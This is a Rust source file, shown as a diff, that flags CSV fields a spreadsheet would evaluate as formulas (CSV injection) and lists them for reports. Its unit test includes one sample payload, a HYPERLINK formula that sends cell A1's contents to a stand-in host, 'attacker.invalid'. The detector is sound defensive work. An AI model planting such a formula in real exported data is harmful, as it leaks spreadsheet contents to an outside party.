@@ -1,0 +1,73 @@
+//! Fields that a spreadsheet would evaluate as a formula when it opens a CSV file (CSV injection,
+//! as OWASP describes it): text starting with `=`, `+`, `-`, `@`, a tab or a carriage return.
+//! The CSV files keep them exact; report.md and report.html list them and point to report.xlsx.
+
+use super::tables::{reports, Value};
+use crate::plan::Plan;
+
+/// The first characters that make a spreadsheet read a CSV field as a formula.
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// How many rows of each file the reports name; the rest are only counted.
+pub const LISTED_ROWS: usize = 20;
+
+pub fn would_evaluate(text: &str) -> bool {
+    text.starts_with(FORMULA_STARTS)
+}
+
+/// A field a spreadsheet would evaluate: its data row (1 = the first row after the header),
+/// its column and its text.
+pub struct Risky {
+    pub row: u64,
+    pub column: &'static str,
+    pub text: String,
+}
+
+/// One report file holding such fields.
+pub struct RiskyFile {
+    pub file: &'static str,
+    /// Rows with at least one such field.
+    pub rows: u64,
+    /// The first `LISTED_ROWS` fields.
+    pub listed: Vec<Risky>,
+}
+
+/// Every report file with fields a spreadsheet would evaluate, in report order.
+pub fn risky_files(plan: &Plan) -> Vec<RiskyFile> {
+    let mut files = Vec::new();
+    for report in reports(plan) {
+        let mut found = RiskyFile { file: report.file, rows: 0, listed: Vec::new() };
+        for (index, row) in report.rows.enumerate() {
+            let mut risky_row = false;
+            for (column, value) in report.header.iter().zip(row) {
+                if let Value::Text(Some(text)) = value {
+                    if would_evaluate(text) {
+                        risky_row = true;
+                        if found.listed.len() < LISTED_ROWS {
+                            found.listed.push(Risky { row: index as u64 + 1, column, text: text.to_string() });
+                        }
+                    }
+                }
+            }
+            found.rows += u64::from(risky_row);
+        }
+        if found.rows > 0 {
+            files.push(found);
+        }
+    }
+    files
+}
+
+#[cfg(test)]
+mod tests {
+    #[test]
+    fn formula_starts_are_found_and_plain_text_is_not() {
+        for text in ["=HYPERLINK(\"http://attacker.invalid/?\"&A1,\"details\")", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+        {
+            assert!(super::would_evaluate(text), "{text:?}");
+        }
+        for text in ["", "1.0.0", "a=b", " =x", "'=x", "\nx"] {
+            assert!(!super::would_evaluate(text), "{text:?}");
+        }
+    }
+}
